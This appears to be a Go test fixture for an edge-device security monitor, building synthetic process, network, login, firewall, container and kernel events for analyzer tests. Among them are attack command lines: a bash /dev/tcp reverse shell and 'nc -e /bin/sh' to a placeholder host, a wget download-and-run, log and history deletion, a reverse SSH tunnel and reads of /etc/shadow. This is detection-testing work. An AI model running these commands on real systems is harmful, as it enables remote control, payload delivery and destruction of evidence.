package analyzertest

import (
	"time"

	"github.com/edgesec/edgesec/event"
)

// Corpus returns events of every catalogued kind as edgesec's collectors
// write them, benign and malicious (reverse shell, miner, firewall
// changes, logins, listeners, containers, hardware...), with items an
// analyzer could be tempted to modify (maps, slices) and edge cases
// (empty snapshots, split snapshots, missing fields, odd text).
func Corpus() []event.Event {
	t := Start
	cid := "4f1e2d3c4b5a69788796a5b4c3d2e1f00112233445566778899aabbccddeeff"
	pc := func(pid, ppid int, exe, cmd string, x event.ExtraDetails) event.Event {
		return event.Must(event.ProcessCreate, t, &event.ProcessCreatePayload{Executable: exe, ProcessID: pid, ParentProcessID: ppid, UserID: "0",
			UserName: "root", CommandLine: cmd, ExtraDetails: x})
	}
	nx := func(kv ...string) event.ExtraDetails {
		x := event.ExtraDetails{"Source": "netlink"}
		for i := 0; i+1 < len(kv); i += 2 {
			x[kv[i]] = kv[i+1]
		}
		return x
	}
	fw := func(at time.Time, policy string, rules ...*event.FirewallRulePayload) event.Event {
		items := []event.Item{&event.FirewallRulePayload{Priority: 9, Direction: event.DirectionIn, ChainName: "INPUT", Enabled: true, Action: policy,
			ExtraDetails: event.ExtraDetails{"Source": "iptables-nft", "Family": "ipv4", "Table": "filter", "Hook": "input", "ChainPolicy": "true"}}}
		for _, r := range rules {
			items = append(items, r)
		}
		return event.Must(event.FirewallConfiguration, at, items...)
	}
	rule := &event.FirewallRulePayload{Priority: 0, Direction: event.DirectionIn, ChainName: "INPUT", Enabled: true, Action: event.ActionAllow,
		DestinationPort: "22", Protocol: "TCP", ExtraDetails: event.ExtraDetails{"Source": "iptables-nft", "Family": "ipv4", "Table": "filter", "Hook": "input", "Rule": "-A INPUT -p tcp --dport 22 -j ACCEPT"}}
	usb := func(at time.Time, names ...string) event.Event {
		var items []event.Item
		for i, n := range names {
			items = append(items, &event.ConnectedHardwarePayload{HardwareCategory: "USB", HardwareSubCategory: "MassStorage", HardwareName: n,
				ExtraDetails: event.ExtraDetails{"MassStorage": "true", "Port": "1-" + event.Itoa(i+1), "VendorId": "0781", "ProductId": "5567"}})
		}
		return event.Must(event.ConnectedHardware, at, items...)
	}
	ka := func(action, path, exe string, pid int, x event.ExtraDetails) event.Event {
		p := &event.KernelActivityPayload{Action: action, Path: path, ProcessID: pid, ParentProcessID: 101, Executable: exe,
			CommandLine: exe + " " + path, UserID: "0", ExtraDetails: x}
		if action == event.ActivityRename || action == event.ActivitySymlink {
			p.TargetPath = "/etc/ssh/sshd_config"
		}
		if action == event.ActivityPtrace {
			p.TargetProcessID = 100
		}
		return event.Must(event.KernelActivity, t, p)
	}
	exit := 137
	evs := []event.Event{
		pc(100, 1, "/usr/sbin/sshd", "/usr/sbin/sshd -D", nx("Comm", "sshd")),
		pc(101, 100, "/usr/bin/bash", "-bash", nx("ParentExecutable", "/usr/sbin/sshd")),
		pc(102, 101, "/usr/bin/ls", "ls -la /var/log", nx("ParentExecutable", "/usr/bin/bash")),
		pc(103, 101, "/usr/bin/bash", "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", nx("ParentExecutable", "/usr/bin/bash")),
		pc(104, 101, "/usr/bin/dash", "sh -c echo cpuminer-multi", nx()),
		pc(105, 101, "/usr/sbin/xtables-nft-multi", "iptables -P INPUT ACCEPT", nx()),
		pc(106, 101, "/usr/bin/wget", "wget -q -O /tmp/b http://198.51.100.7/b", nx()),
		pc(107, 101, "/tmp/b", "/tmp/b", nx("ExecutableDeleted", "true")),
		pc(108, 101, "/usr/bin/rm", "rm -f /var/log/auth.log /root/.bash_history", nx()),
		pc(109, 101, "/usr/bin/nc.openbsd", "nc -e /bin/sh 198.51.100.7 4444", nx()),
		pc(110, 101, "/usr/bin/ssh", "ssh -N -R 8080:localhost:22 nobody@203.0.113.10", nx()),
		pc(111, 1, "/usr/bin/dockerd", "dockerd -H tcp://0.0.0.0:2375", nx()),
		pc(112, 500, "/bin/sh", "sh", nx("ContainerId", cid, "ModuleName", "tempSensor", "ParentComm", "runc:[2:INIT]")),
		pc(113, 114, "/usr/bin/dash", "sh -c id", nx("ParentExecutable", "/usr/sbin/nginx")),
		pc(114, 1, "", "", nil),
		pc(116, 101, "/usr/bin/rm", "", nx()),
		pc(117, 101, "/usr/sbin/iptables", "iptables -P", nx()),
		pc(0, 0, "/usr/bin/true", "true", event.ExtraDetails{"HitCount": "3"}),
		pc(115, 101, "/usr/bin/printf", `printf \x7fELF\x02\x01\x01 "quoted" <tag> & ü`+"\t\n", nx("CommandLineTruncated", "true")),
		event.Must(event.ProcessTerminate, t, &event.ProcessTerminatePayload{Executable: "/usr/bin/ls", ProcessID: 102, ExitStatus: 0}),
		event.Must(event.ProcessTerminate, t, &event.ProcessTerminatePayload{Executable: "/usr/sbin/auditd", ProcessID: 77, ExitStatus: 1}),
		event.Must(event.ConnectionCreate, t, &event.ConnectionCreatePayload{RemoteAddress: "198.51.100.7", RemotePort: "4444", LocalAddress: "10.0.0.2",
			LocalPort: "51000", Direction: event.DirectionOut, Protocol: "TCP", ProcessID: 103, Executable: "/usr/bin/bash", ExtraDetails: event.ExtraDetails{"State": "ESTABLISHED"}}),
		event.Must(event.ConnectionCreate, t, &event.ConnectionCreatePayload{RemoteAddress: "::1", RemotePort: "8883", Direction: event.DirectionIn, Protocol: "TCP"}),
		event.Must(event.Login, t, &event.LoginPayload{ProcessID: 200, UserName: "pi", Operation: "Login", Executable: "/usr/sbin/sshd", RemoteAddress: "192.0.2.5", Result: event.LoginSuccess}),
		event.Must(event.Login, t, &event.LoginPayload{UserName: "root", Operation: "Login", Executable: "/usr/sbin/sshd", RemoteAddress: "203.0.113.9", Result: event.LoginFail,
			ExtraDetails: event.ExtraDetails{"RepeatCount": "6"}}),
		event.Must(event.Login, t, &event.LoginPayload{UserName: "root", Operation: "Login", Executable: "/usr/sbin/sshd", RemoteAddress: "203.0.113.9", Result: event.LoginSuccess}),
		event.Must(event.Login, t, &event.LoginPayload{UserID: "1000", Operation: "Logout", Executable: "login", Result: event.LoginSuccess}),
		event.Must(event.ListeningPorts, t, &event.ListeningPortsPayload{Protocol: "TCP", LocalAddress: "0.0.0.0", LocalPort: "8888",
			ExtraDetails: event.ExtraDetails{"Executable": "/usr/bin/nc", "ProcessId": "300"}},
			&event.ListeningPortsPayload{Protocol: "TCP", LocalAddress: "::", LocalPort: "2375", ExtraDetails: event.ExtraDetails{"Executable": "/usr/bin/dockerd"}},
			&event.ListeningPortsPayload{Protocol: "RAW", LocalPort: "0"}),
		event.Must(event.ListeningPorts, t, &event.ListeningPortsPayload{Protocol: "UDP", LocalAddress: "0.0.0.0", LocalPort: "5353"}),
		event.Must(event.ListeningPorts, t.Add(time.Hour)),
		fw(t, event.ActionDeny, rule),
		fw(t.Add(time.Hour), event.ActionAllow),
		event.Must(event.FirewallConfiguration, t.Add(2*time.Hour)),
		usb(t, "Cruzer"),
		usb(t.Add(time.Hour), "Cruzer", "Rubber Ducky"),
		event.Must(event.LocalUsers, t, &event.LocalUsersPayload{UserName: "root", UserID: "0", GroupIDs: "0", GroupNames: "root"}),
		event.Must(event.SystemInformation, t, &event.SystemInformationPayload{OSName: "Debian", HostName: "edge-01"}),
		event.Must(event.OSBaseline, t, &event.OSBaselinePayload{CceID: "CCE-14011-3", Description: "Ensure SSH root login is disabled", Result: event.BaselineFail, Severity: event.SeverityCritical}),
		event.Must(event.OSBaseline, t.Add(time.Hour)),
		event.Must(event.ContainerInventory, t, &event.ContainerInventoryPayload{ContainerID: cid, Name: "tempSensor", ModuleName: "tempSensor", Runtime: "moby",
			Image: "local/xmrig:1", State: "running", Privileged: true, CapAdd: []string{"SYS_ADMIN"}, Mounts: []event.Mount{{Type: "bind", Source: "/", Destination: "/host"}},
			Labels: map[string]string{"a": "b"}}),
		event.Must(event.ContainerActivity, t, &event.ContainerActivityPayload{Action: "exec_start", ContainerID: cid, Runtime: "moby", Command: "bash -i"}),
		event.Must(event.ContainerActivity, t, &event.ContainerActivityPayload{Action: "die", ContainerID: cid, Runtime: "moby", ExitCode: &exit}),
		event.Must(event.DeploymentRecommendation, t, &event.DeploymentRecommendationPayload{RuleID: "EDGE001", Severity: event.FindingCritical, Title: "Privileged container", Module: "tempSensor", Source: "runtime"}),
		event.Must(event.DeploymentRecommendation, t.Add(time.Hour)),
		event.Must(event.MessageStatistics, t, &event.MessageStatisticsPayload{MessagesSent: 10, MessagesUnder4KB: 9}),
		event.Must(event.ConfigurationError, t, &event.ConfigurationErrorPayload{ConfigurationName: "maxMessageSizeInBytes", ErrorType: event.NotOptimal, UsedConfiguration: "5000", Message: "x"}),
		event.Must(event.DroppedEventsStatistics, t, &event.DroppedEventsPayload{Queue: "High"}),
		event.Must(event.Heartbeat, t, &event.HeartbeatPayload{AgentVersion: "1"}),
		event.Must(event.DiagnosticEvent, t, &event.DiagnosticPayload{Severity: event.DiagError, Message: "x"}),
		event.NewCustom("VendorThing", event.Triggered, event.Security, t, event.Object{"k": "v"}),
		ka(event.ActivityOpenRead, "/etc/shadow", "/usr/bin/cat", 120, nx("Comm", "cat")),
		ka(event.ActivityOpenWrite, "/usr/local/bin/x", "/bin/busybox", 121, nx("ContainerId", cid, "ModuleName", "tempSensor")),
		pc(122, 121, "/usr/local/bin/x", "/usr/local/bin/x", nx("ContainerId", cid, "ModuleName", "tempSensor")),
		ka(event.ActivityRename, "/etc/sedX", "/usr/bin/sed", 123, nx()),
		ka(event.ActivitySymlink, "/etc/shadow", "/usr/bin/ln", 124, nil),
		ka(event.ActivityPtrace, "", "", 125, nx("Comm", "gdb")),
		ka(event.ActivityExecMemfd, "/proc/self/fd/3", "/proc/self/fd/3", 126, nx()),
		ka(event.ActivityPacketSocket, "", "/usr/sbin/tcpdump", 127, nx("ContainerId", cid)),
		ka(event.ActivityModuleLoad, "", "/usr/sbin/insmod", 128, nx()),
		ka(event.ActivityBPFLoad, "", "/usr/sbin/bpftool", 129, nx()),
		ka(event.ActivityTruncate, "/var/log/auth.log", "/usr/bin/dash", 130, nx()),
		ka(event.ActivityUnlink, "/root/.bash_history", "/usr/bin/rm", 108, nx()),
		ka("unknown_action", "/etc/x", "/usr/bin/x", 131, nx()),
	}
	return evs
}
